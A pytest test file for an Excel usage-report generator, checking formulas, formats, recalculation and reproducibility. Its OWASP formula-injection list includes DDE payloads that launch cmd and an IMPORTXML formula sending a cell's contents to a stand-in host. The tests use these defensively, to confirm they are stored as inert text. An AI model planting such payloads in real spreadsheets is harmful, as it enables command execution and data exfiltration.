"""The workbook: structure and styles read back with openpyxl, stored values read without
recalculation, and formulas recalculated by LibreOffice."""

import io
import math
import shutil
import subprocess
import uuid
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from helpers import frame
from support import _RECALC_ALWAYS, run_cli, soffice_recalculate

import generect_reports as g
from generect_reports.render.xlsx.workbook import SHEETS, render_workbook, write_report_workbook
from generect_reports.reports.narrative import anomaly_formats, anomaly_lines
from generect_reports.theme import bundled_template_dir

# OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection)
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
]


def _report(name, folder=None):
    sample = g.load_sample()
    if name == "tier-0.75":
        # July 2026's email_validation: 3,292 × $0.005 × 0.75 = $12.345, a half cent
        (folder / "prices.toml").write_text(
            (bundled_template_dir() / "prices.toml")
            .read_text()
            .replace("tier_multiplier = 1.0", "tier_multiplier = 0.75")
        )
        return g.build_report(sample, "2026-07", template=folder)
    if name == "2026-10":
        return g.build_report(sample, "2026-10")
    if name == "2026-03":
        return g.build_report(sample, "2026-03")
    if name == "running":
        return g.build_report(sample, "2026-10", as_of="2026-10-11 09:30")
    if name == "first-month":
        return g.build_report(sample, "2025-01")
    if name == "fractional-partial":
        rows = [(f"2026-04-{d:02d}", "a", 10.25) for d in range(1, 31)]
        rows += [(f"2026-05-{d:02d}", "a", 12.5) for d in range(1, 11)] + [
            ("2026-05-03", "brand_new", 7.0)
        ]
        return g.build_report(frame(rows, fetched_at="2026-05-11 09:30"), "2026-05")
    if name == "zero-month":
        return g.build_report(
            frame(
                [("2026-04-01", "a", 10.0), ("2026-05-01", "a", 0.0)], fetched_at="2026-06-01 00:00"
            ),
            "2026-05",
        )
    if name == "negative-total":
        rows = [
            ("2026-04-01", "a", 10.0),
            ("2026-05-02", "refund", -4.0),
            ("2026-05-03", "search_database", 2.5),
        ]
        return g.build_report(frame(rows, fetched_at="2026-06-01 00:00"), "2026-05")
    raise KeyError(name)


REPORTS = [
    "2026-10",
    "tier-0.75",
    "2026-03",
    "running",
    "first-month",
    "fractional-partial",
    "zero-month",
    "negative-total",
]


@pytest.fixture(scope="module")
def books(tmp_path_factory):
    folder = tmp_path_factory.mktemp("xlsx")
    out = {}
    for name in REPORTS:
        rep = _report(name, folder)
        path = folder / f"{name}.xlsx"
        write_report_workbook(rep, path)
        out[name] = (rep, path)
    return out


def _formula_cells(path):
    """(sheet, coordinate, formula text) of every formula cell."""
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                text = getattr(v, "text", v)
                if isinstance(text, str) and text.startswith("="):
                    yield ws.title, cell.coordinate, text


def _kv(ws, min_row=1, col=1):
    return {
        r[0]: r[col] for r in ws.iter_rows(min_row=min_row, values_only=True) if r[0] is not None
    }


def test_sheets_formulas_and_names(books):
    rep, path = books["2026-10"]
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == SHEETS
    assert SHEETS == [
        "Summary",
        "By operation",
        "Cost",
        "Drivers",
        "Monthly",
        "Anomalies",
        "Daily",
        "Prices",
        "About",
    ]
    ws = wb["By operation"]
    n = len(rep.operations)
    total = 5 + n
    heads = [c.value for c in ws[4]]
    assert heads[:4] == ["Operation", "Credits", "Share", "Previous: September 2026"]
    assert "Year ago: October 2025" in heads and "Estimated cost" in heads
    assert ws["B5"].value == "=SUMIFS(DailyCredits,DailyOperation,A5)"
    assert ws["E5"].value == "=B5-D5" and ws["F5"].value == '=IF(D5=0,"n/a",E5/D5)'
    assert (
        ws["J5"].value
        == '=IF(ISNUMBER(Prices!$B$5),ROUND(B5*Prices!$B$5*TierMultiplier,2),"unpriced")'
    )
    assert ws[f"B{total}"].value == f"=SUM(B5:B{total - 1})"
    f = rep.formats
    assert ws["B5"].number_format == f.excel_credits == "#,##0"
    assert ws["E5"].number_format == f.excel_change and ws["F5"].number_format == f.excel_signed_pct
    assert ws["C5"].number_format == "0.0%" and ws["C5"].value == pytest.approx(0.293)
    assert ws.freeze_panes == "B5" and ws.print_title_rows == "$4:$4"
    assert ws.page_setup.orientation == "landscape"
    names = set(wb.defined_names)
    assert {
        "MonthTotal",
        "PreviousTotal",
        "ChangePct",
        "EstimatedCost",
        "TopOperation",
        "TierMultiplier",
        "YearAgoTotal",
        "CostChange",
        "DailyCredits",
        "DailyOperation",
        "CheckTieOut",
    } <= names
    assert {type(c).__name__ for c in wb["Summary"]._charts} == {"BarChart"} and len(
        wb["Summary"]._charts
    ) == 2
    assert [type(c).__name__ for c in ws._charts] == ["DoughnutChart"]
    assert len(wb["Drivers"]._charts) == 1 and len(wb["Cost"]._charts) == 1
    assert len(ws.conditional_formatting) >= 2
    prices = wb["Prices"]
    assert prices["A5"].value == "search_database" and prices["B5"].value == 0.02
    unpriced = [r for r in prices.iter_rows(min_row=5, values_only=True) if r[0] == "unattributed"][
        0
    ]
    assert unpriced[1] is None and unpriced[2].startswith("unpriced")
    assert wb["Anomalies"]["B5"].value == "search_realtime"
    assert wb["Anomalies"]["A5"].fill.fgColor.rgb.endswith("FDEBD0")


def test_daily_is_a_portrait_table_without_duplicate_columns(books):
    rep, path = books["2026-10"]
    ws = openpyxl.load_workbook(path)["Daily"]
    assert [c.value for c in ws[1]] == ["Date", "Operation", "Credits"]
    assert ws.tables["DailyUsage"].ref == f"A1:C{len(rep.daily) + 1}"
    assert ws.page_setup.orientation == "portrait" and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToHeight == 0 and ws.print_title_rows == "$1:$1"


def test_print_headers_and_footers_on_every_sheet(books):
    rep, path = books["2026-10"]
    for ws in openpyxl.load_workbook(path):
        assert ws.oddHeader.right.text == "&F · &A", ws.title
        assert ws.oddFooter.center.text == "Page &P of &N"
        assert ws.oddFooter.right.text == "Data as of 2026-11-01 00:00"
        assert ws.sheet_properties.pageSetUpPr.fitToPage


def test_about_holds_numbers_and_row_heights(books):
    rep, path = books["2026-10"]
    ws = openpyxl.load_workbook(path)["About"]
    about = _kv(ws, 4)
    assert (
        about["Month total"] == 33441
        and ws.cell(
            row=[r for r in range(4, 40) if ws.cell(r, 1).value == "Month total"][0], column=2
        ).number_format
        == "#,##0"
    )
    assert about["Estimated cost, total"] == pytest.approx(816.15)
    assert about["Tier multiplier"] == 1.0
    assert about["Source"] == "sample data (fictional account)"
    assert about["Input checksum (SHA-256)"] == rep.checksum and about["Month complete"] == "yes"
    wrapped = [
        r
        for r in range(4, 40)
        if ws.cell(r, 2).alignment.wrap_text and len(str(ws.cell(r, 2).value or "")) > 130
    ]
    assert wrapped and all(
        ws.row_dimensions[r].height and ws.row_dimensions[r].height >= 30 for r in wrapped
    )


def test_summary_kpis_right_aligned_with_signs(books):
    rep, path = books["2026-10"]
    ws = openpyxl.load_workbook(path)["Summary"]
    rows = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(1, 60) if ws.cell(r, 1).value}
    for label in (
        "Credits this month",
        "Change vs previous month",
        "Change %",
        "Estimated cost (estimate)",
    ):
        assert rows[label].alignment.horizontal == "right"
    assert rows["Change vs previous month"].number_format == "+#,##0;-#,##0;0"
    assert rows["Change %"].number_format == "+0.0%;-0.0%;0.0%"
    assert rows["Largest cost line"].value == "phone_find"
    # the exceptions open the sheet, then the narrative, one sentence a row
    assert ws["A4"].value == "Exceptions and actions"
    first = next(r for r in range(5, 60) if ws.cell(r, 1).value == "In brief") + 1
    texts = [ws.cell(r, 1).value for r in range(first, first + len(rep.narrative))]
    assert texts == rep.narrative


@pytest.mark.parametrize("name", REPORTS)
def test_every_formula_cell_has_a_stored_value(books, name):
    rep, path = books[name]
    values = openpyxl.load_workbook(path, data_only=True)
    cells = list(_formula_cells(path))
    assert len(cells) > 40
    for sheet, coord, formula in cells:
        assert values[sheet][coord].value is not None, (sheet, coord, formula)


@pytest.mark.parametrize("name", ["2026-10", "2026-03", "running", "tier-0.75"])
def test_stored_values_are_the_report_figures(books, name):
    rep, path = books[name]
    wb = openpyxl.load_workbook(path, data_only=True)
    ws = wb["By operation"]
    heads = [c.value for c in ws[4]]
    col = {h: i for i, h in enumerate(heads)}
    rows = list(ws.iter_rows(min_row=5, max_row=5 + len(rep.operations), values_only=True))
    for got, want in zip(rows, rep.operations.itertuples(index=False)):
        assert got[0] == want.operation
        assert got[col["Credits" if rep.complete else "Credits so far"]] == want.credits
        assert got[col["Share"]] == pytest.approx(want.share_display / 100)
        assert got[col["Change"]] == want.change
        assert got[col["Estimated cost"]] == (want.estimated_cost if want.priced else "unpriced")
        if name == "tier-0.75" and want.operation == "email_validation":
            assert got[col["Estimated cost"]] == 12.35  # half up from 12.345, in decimal
    total = rows[-1]
    assert (
        total[0] == "Total"
        and total[1] == rep.total
        and total[col["Estimated cost"]] == rep.estimated_cost
    )
    assert total[col["Change %"]] == pytest.approx(rep.change_pct)
    if rep.yoy_available:
        yoy = [h for h in heads if str(h).startswith("Year ago")][0]
        assert total[col[yoy]] == rep.yoy_total
    summary = _kv(wb["Summary"], 4)
    assert summary["Credits this month" if rep.complete else "Credits so far"] == rep.total
    assert summary["Estimated cost (estimate)"] == rep.estimated_cost
    assert summary["Top operation (credits)"] == rep.top_operation
    assert summary["Check: the sheets agree"] == "OK"
    if not rep.complete:
        assert summary["Month-end projection (estimate)"] == pytest.approx(rep.projection)
    cost = list(
        wb["Cost"].iter_rows(min_row=5, max_row=4 + len(rep.cost_by_operation), values_only=True)
    )
    assert [r[1] for r in cost] == list(rep.cost_by_operation["operation"])
    drivers = list(
        wb["Drivers"].iter_rows(min_row=5, max_row=4 + len(rep.bridge), values_only=True)
    )
    assert [r[0] for r in drivers] == list(rep.bridge["label"])
    assert [r[1] for r in drivers] == pytest.approx(list(rep.bridge["value"]))
    assert [r[2] for r in drivers] == pytest.approx(list(rep.bridge["top"]))
    for got, want in zip(
        wb["Anomalies"].iter_rows(min_row=5, values_only=True),
        rep.anomalies.itertuples(index=False),
    ):
        assert got[1] == want.operation and got[4] == want.excess
        assert got[5] == pytest.approx(want.share_of_change)


def _same(a, b):
    if isinstance(a, (int, float)) and isinstance(b, (int, float)):
        return math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-9)
    return a == b


@pytest.mark.libreoffice
@pytest.mark.parametrize(
    "name",
    [
        "2026-10",
        "2026-03",
        "running",
        "fractional-partial",
        "zero-month",
        "negative-total",
        "tier-0.75",
    ],
)
def test_libreoffice_recalculation_changes_no_stored_value(books, name, tmp_path):
    rep, path = books[name]
    stored = openpyxl.load_workbook(path, data_only=True)
    recalculated = openpyxl.load_workbook(soffice_recalculate(path, tmp_path), data_only=True)
    changed = [
        (s, c, f, stored[s][c].value, recalculated[s][c].value)
        for s, c, f in _formula_cells(path)
        if not _same(stored[s][c].value, recalculated[s][c].value)
    ]
    assert not changed, changed[:5]
    for ws in recalculated:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (
                    isinstance(v, str) and v.startswith("#") and v.endswith(("!", "?", "A"))
                ), v


def _rewrite_entry(path, target, name, fix):
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info, fix(body) if info.filename == name else body)


@pytest.mark.libreoffice
def test_recalculation_really_recalculates(books, tmp_path):
    """A deliberately wrong stored value is corrected: the profile makes LibreOffice recompute."""
    rep, path = books["2026-10"]
    wb = openpyxl.load_workbook(path)
    index = wb.sheetnames.index("By operation") + 1
    total_row = 5 + len(rep.operations)
    wrong = tmp_path / "wrong.xlsx"
    marker = f'<c r="B{total_row}"'.encode()

    def fix(body):
        start = body.index(marker)
        v0 = body.index(b"<v>", start)
        v1 = body.index(b"</v>", v0)
        return body[:v0] + b"<v>12345</v>" + body[v1 + 4 :]

    _rewrite_entry(path, wrong, f"xl/worksheets/sheet{index}.xml", fix)
    assert (
        openpyxl.load_workbook(wrong, data_only=True)["By operation"][f"B{total_row}"].value
        == 12345
    )
    back = openpyxl.load_workbook(soffice_recalculate(wrong, tmp_path), data_only=True)
    assert back["By operation"][f"B{total_row}"].value == rep.total


@pytest.mark.libreoffice
def test_check_cell_fails_when_a_daily_value_is_edited(books, tmp_path):
    rep, path = books["2026-10"]
    wb = openpyxl.load_workbook(path)
    wb["Daily"]["C2"].value = wb["Daily"]["C2"].value + 100
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    back = openpyxl.load_workbook(soffice_recalculate(edited, tmp_path), data_only=True)
    summary = _kv(back["Summary"], 4)
    assert summary["Check: the sheets agree"] == "FAIL"
    # The detail beside the check follows it: one live result, never "OK" beside a FAIL text.
    detail = _kv(back["Summary"], 4, col=2)["Check: the sheets agree"]
    assert detail == "A figure was edited on one sheet only"
    assert summary["Credits this month"] == rep.total + 100  # By operation follows Daily (SUMIFS)
    untouched = openpyxl.load_workbook(path)
    same = tmp_path / "same.xlsx"
    untouched.save(same)
    back = openpyxl.load_workbook(soffice_recalculate(same, tmp_path), data_only=True)
    assert _kv(back["Summary"], 4)["Check: the sheets agree"] == "OK"
    detail = _kv(back["Summary"], 4, col=2)["Check: the sheets agree"]
    assert detail == "Monthly, By operation and Daily agree"


@pytest.mark.libreoffice
def test_check_cell_covers_year_over_year(books, tmp_path):
    """March 2026 against March 2025 (whose unattributed credits no later month has): the
    year-ago column ties to the Monthly sheet, so the check holds; editing a year-ago figure
    on By operation alone makes it fail."""
    rep, path = books["2026-03"]
    back = openpyxl.load_workbook(soffice_recalculate(path, tmp_path), data_only=True)
    summary = _kv(back["Summary"], 4)
    assert summary["Check: the sheets agree"] == "OK"
    assert summary["Same month last year (March 2025)"] == 18039
    assert summary["Change vs same month last year %"] == pytest.approx(6097 / 18039)
    wb = openpyxl.load_workbook(path)
    ws = wb["By operation"]
    column = [c.value for c in ws[4]].index("Year ago: March 2025") + 1
    ws.cell(5, column).value = ws.cell(5, column).value + 100
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    back = openpyxl.load_workbook(soffice_recalculate(edited, tmp_path), data_only=True)
    assert _kv(back["Summary"], 4)["Check: the sheets agree"] == "FAIL"


@pytest.mark.libreoffice
def test_editing_a_price_recalculates_the_costs(books, tmp_path):
    rep, path = books["2026-10"]
    wb = openpyxl.load_workbook(path)
    prices = wb["Prices"]
    rows = {prices.cell(r, 1).value: r for r in range(5, 30) if prices.cell(r, 1).value}
    prices.cell(rows["phone_find"], 2).value = 0.5
    prices.cell(rows["unattributed"], 2).value = 0.01
    edited = tmp_path / "prices.xlsx"
    wb.save(edited)
    back = openpyxl.load_workbook(soffice_recalculate(edited, tmp_path), data_only=True)
    ws = back["By operation"]
    heads = [c.value for c in ws[4]]
    cost = heads.index("Estimated cost")
    by_op = {
        r[0]: r for r in ws.iter_rows(min_row=5, max_row=5 + len(rep.operations), values_only=True)
    }
    assert by_op["phone_find"][cost] == 254.5  # ROUND(509 × 0.5, 2)
    assert by_op["unattributed"][cost] == 5.5  # priced now: 550 × 0.01
    assert by_op["Total"][cost] == pytest.approx(rep.estimated_cost - 203.6 + 254.5 + 5.5)


def _displayed(path, workdir):
    """Every sheet as LibreOffice displays it (cell values through their number formats),
    after a full recalculation: {sheet: rows of text}."""
    import csv

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    profile = workdir / f"lo-profile-{uuid.uuid4().hex}"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(_RECALC_ALWAYS)
    out = workdir / f"csv-{uuid.uuid4().hex}"
    out.mkdir()
    # CSV filter options: comma, double quote, UTF-8, from line 1, ..., "save as shown",
    # all sheets (-1)
    subprocess.run(
        [
            exe,
            "--headless",
            "--norestore",
            f"-env:UserInstallation={profile.as_uri()}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,true,false,false,-1",
            "--outdir",
            str(out),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    sheets = {}
    for name in SHEETS:
        f = out / f"{path.stem}-{name}.csv"
        with f.open(encoding="utf-8", newline="") as fh:
            sheets[name] = list(csv.reader(fh))
    return sheets


@pytest.mark.libreoffice
@pytest.mark.parametrize("name", ["2026-10", "2026-03", "running", "fractional-partial"])
def test_displayed_figures_equal_the_formatters_used_by_pdf_and_email(books, name, tmp_path):
    rep, path = books[name]
    f = rep.formats
    shown = _displayed(path, tmp_path)
    ops = shown["By operation"]
    heads = ops[3]
    col = {h: i for i, h in enumerate(heads)}
    for row, want in zip(ops[4:], rep.operations.itertuples(index=False)):
        assert row[0] == want.operation
        assert row[1] == f.credits(want.credits)
        assert row[col["Share"]] == f.share(want.share_display)
        assert row[col["Change"]] == f.change(want.change)
        assert row[col["Change %"]] == f.signed_pct(want.change_pct)
        assert row[col["Estimated cost"]] == (
            f.money(want.estimated_cost) if want.priced else "unpriced"
        )
        assert row[col["Cost change"]] == (
            f.money_change(want.cost_change) if want.priced else "unpriced"
        )
    total = ops[4 + len(rep.operations)]
    assert total[:3] == ["Total", f.credits(rep.total), "100.0%"]
    assert total[col["Estimated cost"]] == f.money(rep.estimated_cost)
    summary = {r[0]: r[1] for r in shown["Summary"] if r and r[0]}
    assert summary["Credits this month" if rep.complete else "Credits so far"] == f.credits(
        rep.total
    )
    assert summary["Change vs previous month"] == f.change(rep.change)
    assert summary["Change %"] == f.signed_pct(rep.change_pct)
    assert summary["Estimated cost (estimate)"] == f.money(rep.estimated_cost)
    assert summary["Check: the sheets agree"] == "OK"
    if rep.yoy_available:
        assert summary["Change vs same month last year %"] == f.signed_pct(rep.yoy_change_pct)
    if not rep.complete:
        assert summary["Month-end projection (estimate)"] == f.projection(rep.projection)
    cost = shown["Cost"]
    for row, want in zip(cost[4:], rep.cost_by_operation.itertuples(index=False)):
        assert row[1] == want.operation
        if want.priced:
            assert row[2] == f.money(want.estimated_cost) and row[3] == f.share(
                want.cost_share_display
            )
    fc, fb = anomaly_formats(rep)
    for row, want in zip(shown["Anomalies"][4:], rep.anomalies.itertuples(index=False)):
        # credits − baseline = excess as displayed, and as the narrative's lines say
        assert row[2:5] == [
            fc.credits(want.credits),
            fb.credits(want.baseline),
            fb.credits(want.excess),
        ]
        value, baseline, excess = (Decimal(v.replace(",", "")) for v in row[2:5])
        assert value - baseline == excess
        assert f"{row[2]} credits, {row[4]} above a baseline of {row[3]}" in " ".join(
            anomaly_lines(rep)
        )
    # the narrative's figures are the displayed ones
    text = " ".join(rep.narrative)
    assert f.credits(rep.total) in text
    if rep.operations["priced"].any():
        assert f.money(rep.estimated_cost) in text


@pytest.mark.libreoffice
def test_partial_month_and_new_operation_recalculate(books, tmp_path):
    rep, path = books["fractional-partial"]
    assert not rep.complete and rep.new_operations == ["brand_new"]
    back = openpyxl.load_workbook(soffice_recalculate(path, tmp_path), data_only=True)
    ws = back["By operation"]
    heads = [c.value for c in ws[4]]
    assert heads[1:5] == [
        "Credits so far",
        "Share",
        "Previous: April 2026, days 1–10",
        "Credits, days 1–10",
    ]
    by_op = {r[0]: r for r in ws.iter_rows(min_row=5, max_row=7, values_only=True)}
    assert (
        by_op["a"][3] == 102.5
        and by_op["a"][4] == 125.0
        and by_op["a"][6] == pytest.approx(22.5 / 102.5)
    )
    assert by_op["brand_new"][6] == "n/a"
    assert by_op["Total"][5] == pytest.approx(29.5)
    summary = _kv(back["Summary"], 4)
    assert summary["Month-end projection (estimate)"] == pytest.approx(rep.projection)
    assert summary["Change vs previous month"] == pytest.approx(29.5)


def test_formula_injection_is_stored_as_text(tmp_path):
    rows = [("2026-04-01", p, 1.0 + i) for i, p in enumerate(OWASP_PAYLOADS)]
    rows += [("2026-05-01", p, 2.0 + i) for i, p in enumerate(OWASP_PAYLOADS)]
    usage = frame(rows, fetched_at="2026-06-01 00:00")
    rep = g.build_report(usage, "2026-05")
    path = tmp_path / "inject.xlsx"
    write_report_workbook(rep, path)
    wb = openpyxl.load_workbook(path)
    seen = set()
    # XlsxWriter stores control characters in OOXML's _xHHHH_ form (a carriage return as
    # _x000D_), which Excel and LibreOffice read back as the character and openpyxl leaves as is.
    payloads = {p.replace("\r", "_x000D_"): p for p in OWASP_PAYLOADS}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in payloads:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if payloads[cell.value].startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix
                    seen.add(payloads[cell.value])
    assert seen == set(OWASP_PAYLOADS)
    # the names feed formulas only as cell references, and exact matches (no SUMIFS patterns)
    ws = wb["By operation"]
    assert all(
        "SUMPRODUCT((DailyOperation=A" in ws.cell(r, 2).value
        for r in range(5, 5 + len(OWASP_PAYLOADS))
    )
    export = tmp_path / "tidy.xlsx"
    g.write_usage_xlsx(usage, export)
    ws = openpyxl.load_workbook(export)["Usage"]
    cells = [c for row in ws.iter_rows(min_row=3) for c in row if c.column == 3]
    assert {c.value for c in cells} == set(OWASP_PAYLOADS) and all(
        c.data_type == "s" for c in cells
    )
    assert all(c.quotePrefix for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r")))


@pytest.mark.libreoffice
def test_injection_payloads_stay_text_in_libreoffice(tmp_path):
    rows = [("2026-05-01", p, 1.0) for p in OWASP_PAYLOADS] + [
        ("2026-05-02", "a*b?~c", 2.0),
        ("2026-05-02", "a", 3.0),
    ]
    usage = frame(rows, fetched_at="2026-06-01 00:00")
    path = tmp_path / "inject.xlsx"
    g.write_excel_report(usage, path, month="2026-05")
    recalculated = soffice_recalculate(path, tmp_path)
    ws = openpyxl.load_workbook(recalculated, data_only=True)["By operation"]
    got = {
        r[0]: r[1]
        for r in ws.iter_rows(min_row=5, max_row=4 + len(OWASP_PAYLOADS) + 2, values_only=True)
    }
    assert set(got) == set(OWASP_PAYLOADS) | {"a*b?~c", "a"}
    # every name matched its own rows only: wildcards and operators are not patterns
    assert all(got[p] == 1.0 for p in OWASP_PAYLOADS) and got["a*b?~c"] == 2.0 and got["a"] == 3.0
    summary = _kv(openpyxl.load_workbook(recalculated, data_only=True)["Summary"], 4)
    assert summary["Check: the sheets agree"] == "OK"


def test_tidy_export_table_and_split(tmp_path, sample):
    path = tmp_path / "u.xlsx"
    g.write_usage_xlsx(sample, path)
    ws = openpyxl.load_workbook(path)["Usage"]
    assert ws.max_row == len(sample) + 2 and "Usage1" in ws.tables
    assert [c.value for c in ws[2]] == ["period_start", "period", "operation", "credits"]
    small = tmp_path / "split.xlsx"
    g.write_usage_xlsx(sample.head(25), small, max_rows=12)
    wb = openpyxl.load_workbook(small)
    assert wb.sheetnames == ["Usage 1", "Usage 2", "Usage 3"]
    assert sum(ws.max_row - 2 for ws in wb) == 25
    assert "part 1 of 3" in wb["Usage 1"]["A1"].value


def test_cli_report_sample_xlsx(tmp_path):
    out = run_cli("report", "--sample", "--xlsx", str(tmp_path / "x.xlsx"))
    assert out.returncode == 0, out.stderr
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx", data_only=True)
    assert "October 2026" in wb["Summary"]["A1"].value
    assert (
        len(openpyxl.load_workbook(tmp_path / "x.xlsx")["Monthly"]["A"]) - 4 == 22
    )  # 24 asked, data since 2025-01


def test_cli_report_api_xlsx(token_env, tmp_path):
    out = run_cli(
        "report",
        "--month",
        "2026-05",
        "--history",
        "3",
        "--timezone",
        "Europe/Kyiv",
        "--xlsx",
        str(tmp_path / "api.xlsx"),
    )
    assert out.returncode == 0, out.stderr
    wb = openpyxl.load_workbook(tmp_path / "api.xlsx", data_only=True)
    values = {r[0]: r[1] for r in wb["By operation"].iter_rows(min_row=5, values_only=True)}
    assert values["search_database"] == 310.0 and values["email_find"] == 77.5
    about = {r[0]: r[1] for r in wb["About"].iter_rows(min_row=4, values_only=True)}
    assert about["Source"] == token_env.url
    # the fetch reached back a year, so year-over-year is there although --history is 3
    summary = _kv(wb["Summary"], 4)
    assert summary["Same month last year (May 2025)"] == 310.0 + 77.5
    assert [r[0] for r in wb["Monthly"].iter_rows(min_row=5, values_only=True) if r[0]] == [
        "2026-03",
        "2026-04",
        "2026-05",
    ]


def test_theme_template_override(tmp_path, sample):
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "theme.toml").write_text(
        '[text]\ntitle = "ACME spend"\n[formats]\ncredits = "#,##0.0"\n'
    )
    path = tmp_path / "t.xlsx"
    g.write_excel_report(sample, path, month="2026-10", template=folder)
    wb = openpyxl.load_workbook(path)
    assert wb["Summary"]["A1"].value.startswith("ACME spend")
    assert wb["By operation"]["B5"].number_format == "#,##0.0"
    with pytest.raises(g.TemplateError):
        g.write_excel_report(sample, path, month="2026-10", template=tmp_path / "missing")


@pytest.mark.libreoffice
def test_tidy_export_reads_back_in_libreoffice(tmp_path, sample):
    rows = sample.head(300).copy()
    rows.loc[5, "operation"] = "=1+1"
    rows.loc[6, "operation"] = "a<b & \x07bell"
    rows.attrs = dict(sample.attrs)
    path = tmp_path / "tidy.xlsx"
    g.write_usage_xlsx(rows, path)
    back = soffice_recalculate(path, tmp_path)
    got = list(
        openpyxl.load_workbook(back, data_only=True)["Usage"].iter_rows(
            min_row=3, max_row=302, max_col=4, values_only=True
        )
    )
    assert [r[2] for r in got][5:7] == ["=1+1", "a<b & _x0007_bell"]
    assert [r[3] for r in got] == rows["credits"].tolist()
    assert got[0][0] == rows["period_start"].iloc[0].tz_localize(None).to_pydatetime()


def test_cli_report_current_month_is_partial(token_env, tmp_path):
    """The month that is running: compared like for like, with a projection (API path)."""
    import datetime as dt

    today = dt.datetime.now(dt.UTC).date()
    month = f"{today:%Y-%m}"
    out = run_cli(
        "report",
        "--month",
        month,
        "--history",
        "2",
        "--timezone",
        "UTC",
        "--xlsx",
        str(tmp_path / "p.xlsx"),
    )
    if today.day == 1:  # no complete day of this month yet
        assert out.returncode == 2 and "no complete day" in out.stderr
        return
    assert out.returncode == 0, out.stderr
    assert "is not over" in out.stderr  # the warning line
    wb = openpyxl.load_workbook(tmp_path / "p.xlsx", data_only=True)
    summary = {r[0]: r for r in wb["Summary"].iter_rows(min_row=4, values_only=True) if r[0]}
    elapsed = today.day - 1
    assert summary["Change vs previous month"][2].startswith(
        f"like for like: {month} days 1-{elapsed}"
    )
    # 12.5 credits a day in the local API: the projection is the whole month at that rate
    import calendar

    days = calendar.monthrange(today.year, today.month)[1]
    assert summary["Month-end projection (estimate)"][1] == pytest.approx(12.5 * days)


def test_workbooks_are_byte_identical_for_the_same_data(tmp_path, sample):
    """Reproducible files: no wall-clock times in the document or the zip entries."""
    import time

    rep = g.build_report(sample, "2026-10")
    first = render_workbook(rep)
    time.sleep(2.1)  # zip entry times have a 2-second resolution: cross a tick on purpose
    assert render_workbook(rep) == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    g.write_usage_xlsx(sample.head(500), a)
    g.write_usage_xlsx(sample.head(500), b)
    assert a.read_bytes() == b.read_bytes()
    props = openpyxl.load_workbook(io.BytesIO(first)).properties
    assert props.modified.isoformat() == props.created.isoformat() == "2026-10-31T22:00:00"
